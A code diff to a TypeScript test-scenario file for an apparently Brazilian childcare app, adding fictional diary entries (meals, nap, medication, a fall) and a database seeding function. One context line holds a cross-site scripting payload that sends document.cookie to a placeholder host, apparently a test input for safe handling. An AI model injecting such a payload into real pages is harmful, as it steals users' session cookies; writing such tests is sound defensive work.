@@ -7,8 +7,10 @@
  * The format of the sets and the scenario are described in README.md beside this file.
  */
 import sharp from 'sharp';
-import { cpfFromBase, type IdiomaLumi, type MotivoEncaminhamento, type RespostaLumi } from '@lunna/contract';
+import { eq } from 'drizzle-orm';
+import { cpfFromBase, type DetalhesRegistro, type IdiomaLumi, type MotivoEncaminhamento, type RespostaLumi } from '@lunna/contract';
 import { addDaysTo, instantAt, localDate } from '../../../lib/school-time';
+import { diarioRegistro, discente, turmaDiscente, usuario } from '../../../db/schema';
 import { TestClient } from '../../../test/http-client';
 import { seededWeek } from '../../../test/school-calendar';
 import type { TestApp } from '../../../test/test-app';
@@ -169,6 +171,30 @@ export const CENARIO = {
         "<script>fetch('https://exemplo.invalid/roubar?c='+document.cookie)</script>",
     },
   ],
+  /**
+   * The children's diary this morning, as the educators recorded it: Theo's breakfast and nap (Ana), Sofia's
+   * Vitamina D, a fall and her lunch (Bruno). Lucas, Alice and Davi have no entry: their diary questions are
+   * answered as "nothing recorded yet". `hora` is when it happened; a nap's `fim` its end.
+   */
+  diario: [
+    { crianca: 'theo', por: EMAIL.ana, hora: '08:00', detalhes: { tipo: 'refeicao', refeicao: 'cafe_manha', quantidade: 'metade', recusou: 'mamão' } },
+    { crianca: 'theo', por: EMAIL.ana, hora: '08:10', fim: '08:50', detalhes: { tipo: 'sono' } },
+    { crianca: 'sofia', por: EMAIL.bruno, hora: '09:30', detalhes: { tipo: 'medicacao', medicamento: 'Vitamina D', dose: 2, unidade: 'gotas' } },
+    {
+      crianca: 'sofia',
+      por: EMAIL.bruno,
+      hora: '10:05',
+      detalhes: {
+        tipo: 'incidente',
+        incidente: 'queda',
+        descricao: 'Tropeçou no tapete e ralou o joelho',
+        local: 'Sala Beija-flor',
+        primeirosSocorros: 'Joelho lavado com soro e compressa fria',
+        grave: false,
+      },
+    },
+    { crianca: 'sofia', por: EMAIL.bruno, hora: '10:25', detalhes: { tipo: 'refeicao', refeicao: 'almoco', quantidade: 'quase_tudo', recusou: 'brócolis' } },
+  ] satisfies { crianca: string; por: string; hora: string; fim?: string; detalhes: DetalhesRegistro }[],
   /** Mariana has read this seeded notice; the others addressed to her stay unread. */
   avisoLido: { por: EMAIL.mariana, tituloAviso: 'Reunião de pais' },
   enquete: {
@@ -436,8 +462,35 @@ export async function prepararCenario(t: TestApp): Promise<Cenario> {
   if (!aviso) throw new Error(`the notice "${lido.tituloAviso}" is missing`);
   await ok('mark read', who(lido.por).put(`/api/aviso/${aviso.idAviso}/leitura`, { lido: true }));
 
+  // The diary entries are written as the bulk entry stores them (one row per child and entry).
+  await at('10:25');
+  await registrarDiario(t, hoje, kid);
+
   await at(CENARIO.horaPerguntas);
   return { hoje, semana, criancas, condicoes: { fotos_do_dia: fotosDoDia } };
+}
+
+async function registrarDiario(t: TestApp, hoje: string, kid: (key: string) => string) {
+  const { db } = t.database;
+  for (const r of CENARIO.diario) {
+    const idDisc = kid(r.crianca);
+    const [autor] = await db.select({ id: usuario.id, nome: usuario.nome }).from(usuario).where(eq(usuario.email, r.por));
+    const [crianca] = await db.select({ escolaId: discente.escolaId }).from(discente).where(eq(discente.id, idDisc));
+    const [turma] = await db.select({ id: turmaDiscente.turmaId }).from(turmaDiscente).where(eq(turmaDiscente.discenteId, idDisc));
+    const detalhes: DetalhesRegistro =
+      r.detalhes.tipo === 'sono' && 'fim' in r && r.fim ? { ...r.detalhes, fim: instantAt(hoje, r.fim, TZ).toISOString() } : r.detalhes;
+    await db.insert(diarioRegistro).values({
+      escolaId: crianca!.escolaId,
+      discenteId: idDisc,
+      turmaId: turma?.id ?? null,
+      data: hoje,
+      tipo: detalhes.tipo,
+      ocorridoEm: instantAt(hoje, r.hora, TZ),
+      detalhes,
+      autorId: autor!.id,
+      autorNome: autor!.nome,
+    });
+  }
 }
 
 // ---------------------------------------------------------------------------------------------------
